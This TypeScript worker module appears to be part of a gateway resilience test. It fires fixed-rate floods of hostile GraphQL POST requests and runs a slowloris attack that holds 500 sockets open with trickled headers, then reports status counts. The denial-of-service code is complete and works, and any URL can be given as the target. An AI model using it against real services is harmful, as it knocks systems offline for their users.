import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { parentPort, workerData } from 'node:worker_threads';
import { Agent, request } from 'undici';
import { HOSTILE_KINDS } from './hostile-requests.js';

export interface Attack {
  readonly kind: number;
  readonly url: string;
  readonly token: string;
  readonly perSecond: number;
  readonly seconds: number;
}

/** How often the gateway said what, by status; `0` where a connection ended without an answer. */
export type Statuses = Readonly<Record<string, number>>;

const SLOW_SOCKETS = 500;
const CONNECTIONS = 32;

/** At even intervals, whether or not the last one is answered: who attacks does not wait. */
async function sendAll({ kind, url, token, perSecond, seconds }: Attack, bodyOf: (number: number) => string): Promise<Statuses> {
  const statuses: Record<string, number> = {};
  const dispatcher = new Agent({ connections: CONNECTIONS });
  const headers = {
    'content-type': 'application/json',
    accept: 'application/graphql-response+json',
    authorization: `Bearer ${token}`,
    'asxh-purpose': 'IDENTITY_VERIFICATION',
  };
  const sendOne = async (number: number): Promise<void> => {
    const status = await request(url, { method: 'POST', headers, body: bodyOf(number), dispatcher }).then(
      async (answer) => answer.body.dump().then(() => answer.statusCode),
      () => 0,
    );
    statuses[status] = (statuses[status] ?? 0) + 1;
  };
  const startedAt = performance.now();
  const sent: Promise<void>[] = [];
  for (let number = 0; number < perSecond * seconds; number++) {
    await sleep(Math.max(0, startedAt + (number * 1000) / perSecond - performance.now()));
    sent.push(sendOne(kind * 1_000_000 + number));
  }
  await Promise.all(sent);
  await dispatcher.close();
  return statuses;
}

/** A letter of the headers now and then, on many connections. */
async function sendSlowly({ url, seconds }: Attack): Promise<Statuses> {
  const { hostname, port } = new URL(url);
  let ended = 0;
  const sockets: Socket[] = Array.from({ length: SLOW_SOCKETS }, () => {
    const socket = connect(Number(port), hostname, () => socket.write('POST /graphql HTTP/1.1\r\nhost: a\r\nx-slow: '));
    return socket.on('error', () => undefined).on('close', () => ended++);
  });
  for (let second = 0; second < seconds; second++) {
    await sleep(1_000);
    for (const socket of sockets) if (socket.writable) socket.write('x');
  }
  for (const socket of sockets) socket.destroy();
  return { 0: ended };
}

// Whoever starts this thread gives it an attack.
const attack = workerData as Attack;
const { bodyOf } = HOSTILE_KINDS[attack.kind] ?? {};
parentPort?.postMessage(bodyOf ? await sendAll(attack, bodyOf) : await sendSlowly(attack));
